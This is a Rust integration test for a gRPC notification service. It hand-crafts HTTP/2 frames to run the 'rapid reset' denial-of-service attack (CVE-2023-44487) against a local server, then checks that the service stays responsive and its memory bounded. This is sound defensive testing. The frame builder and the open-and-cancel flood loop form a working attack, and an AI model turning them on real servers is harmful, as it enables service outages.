//! A client that opens calls and cancels them at once ("rapid reset", CVE-2023-44487).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use tidings_proto::tidings_v1::SendRequest;
use tidings_tests::{World, secs, tokens};
use tonic::Code;

use super::messages::message;
use super::{GrpcApi, authorized, port};

/// The attack lasts until this many calls were opened and cancelled, and this many others answered.
const ATTACK: (usize, u64) = (5_000, 10);

/// Connections that attack at once.
const ATTACKERS: usize = 4;

/// Calls that one connection opens and cancels, unless the server ends it before.
const CALLS: u32 = 20_000;

/// A frame of HTTP/2 (RFC 9113 §4.1) with a payload of less than 64 KiB.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u16::try_from(payload.len()).expect("short");
    let mut frame = vec![0];
    frame.extend(length.to_be_bytes());
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call (RFC 7541): indexed, or literal with an indexed name and without Huffman coding.
fn headers() -> Vec<u8> {
    let token = format!("Bearer {}", tokens::service());
    let mut block = vec![0x83, 0x86];
    for (name, value) in [
        (&[0x04][..], "/tidings.v1.Notifications/Send"),
        (&[0x01], "attacker"),
        (&[0x0f, 0x10], "application/grpc"),
        (&[0x0f, 0x08], &token),
    ] {
        block.extend(name);
        // The length has a prefix of 7 bits.
        let length = value.len();
        if length < 127 {
            block.push(u8::try_from(length).expect("short"));
        } else {
            block.push(127);
            let mut rest = length - 127;
            while rest >= 128 {
                block.push(u8::try_from(rest % 128 + 128).expect("a byte"));
                rest /= 128;
            }
            block.push(u8::try_from(rest).expect("a byte"));
        }
        block.extend(value.as_bytes());
    }
    block
}

/// Opens and cancels calls until the server ends the connection. Returns the number of calls.
fn attack(port: u16, headers: &[u8]) -> usize {
    let Ok(mut connection) = TcpStream::connect(("127.0.0.1", port)) else {
        return 0;
    };
    connection
        .set_write_timeout(Some(secs(2)))
        .expect("a timeout");
    let mut reader = connection.try_clone().expect("a clone");
    // What the server answers must not block it.
    let reading = std::thread::spawn(move || {
        let mut bytes = [0; 4096];
        while reader.read(&mut bytes).is_ok_and(|n| n > 0) {}
    });
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(4, 0, 0, &[]));
    let mut sent = 0;
    for n in 0..CALLS {
        let stream = 2 * n + 1;
        bytes.extend(frame(1, 4, stream, headers));
        bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
        if n % 50 == 49 {
            if connection.write_all(&bytes).is_err() {
                break;
            }
            sent += 50;
            bytes.clear();
        }
    }
    let _ = connection.shutdown(std::net::Shutdown::Both);
    reading.join().expect("the reader ends");
    sent
}

/// The memory of a process, in KiB.
fn memory(pid: i32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("a process");
    let line = status.lines().find_map(|line| line.strip_prefix("VmRSS:"));
    let number = line.and_then(|line| line.split_whitespace().next());
    number
        .and_then(|number| number.parse().ok())
        .expect("a number")
}

#[tokio::test]
async fn calls_that_are_cancelled_at_once_neither_fill_the_memory_nor_stop_the_service() {
    let world = World::new().await;
    let mut api = GrpcApi::start(&world, &[]).await;
    let (port, headers) = (port(&api.program), Arc::new(headers()));
    let pid = api.program.pid().as_raw_nonzero().get();
    let before = memory(pid);

    let (over, calls, connections) = (
        Arc::new(AtomicBool::new(false)),
        Arc::new(AtomicUsize::new(0)),
        Arc::new(AtomicUsize::new(0)),
    );
    let attackers: Vec<_> = (0..ATTACKERS)
        .map(|_| {
            let (over, headers) = (Arc::clone(&over), Arc::clone(&headers));
            let (calls, connections) = (Arc::clone(&calls), Arc::clone(&connections));
            std::thread::spawn(move || {
                while !over.load(Ordering::Relaxed) {
                    calls.fetch_add(attack(port, &headers), Ordering::Relaxed);
                    connections.fetch_add(1, Ordering::Relaxed);
                }
            })
        })
        .collect();
    let (start, mut slowest, mut answered) = (Instant::now(), Duration::ZERO, 0);
    while calls.load(Ordering::Relaxed) < ATTACK.0 || answered < ATTACK.1 {
        assert!(start.elapsed() < secs(120), "the service stands still");
        let request = authorized(SendRequest {
            notification: Some(message(&world.in_app(), None)),
        });
        let sent = Instant::now();
        match api.client.send(request).await {
            Ok(_) => {}
            // RabbitMQ, which all tests share, is slow at the moment: the call may be repeated.
            Err(status) if status.code() == Code::Unavailable => continue,
            Err(status) => panic!("no answer: {status}"),
        }
        slowest = slowest.max(sent.elapsed());
        answered += 1;
    }
    over.store(true, Ordering::Relaxed);
    for attacker in attackers {
        attacker.join().expect("an attacker");
    }
    let grown = memory(pid).saturating_sub(before);
    let (calls, connections) = (
        calls.load(Ordering::Relaxed),
        connections.load(Ordering::Relaxed),
    );
    let summary = format!(
        "{calls} calls on {connections} connections; {answered} others, slowest {slowest:?}; {grown} KiB more"
    );
    println!("{summary}");
    // The server ended each connection long before its last call.
    assert!(calls < connections * CALLS as usize / 2, "{summary}");
    assert!(slowest < secs(5), "{summary}");
    assert!(grown < 100 * 1024, "{summary}");
    let metrics = api.program.metrics().await;
    assert!(metrics.sum("tidings_grpc_requests_total", &[r#"code="OK""#]) >= answered);
}
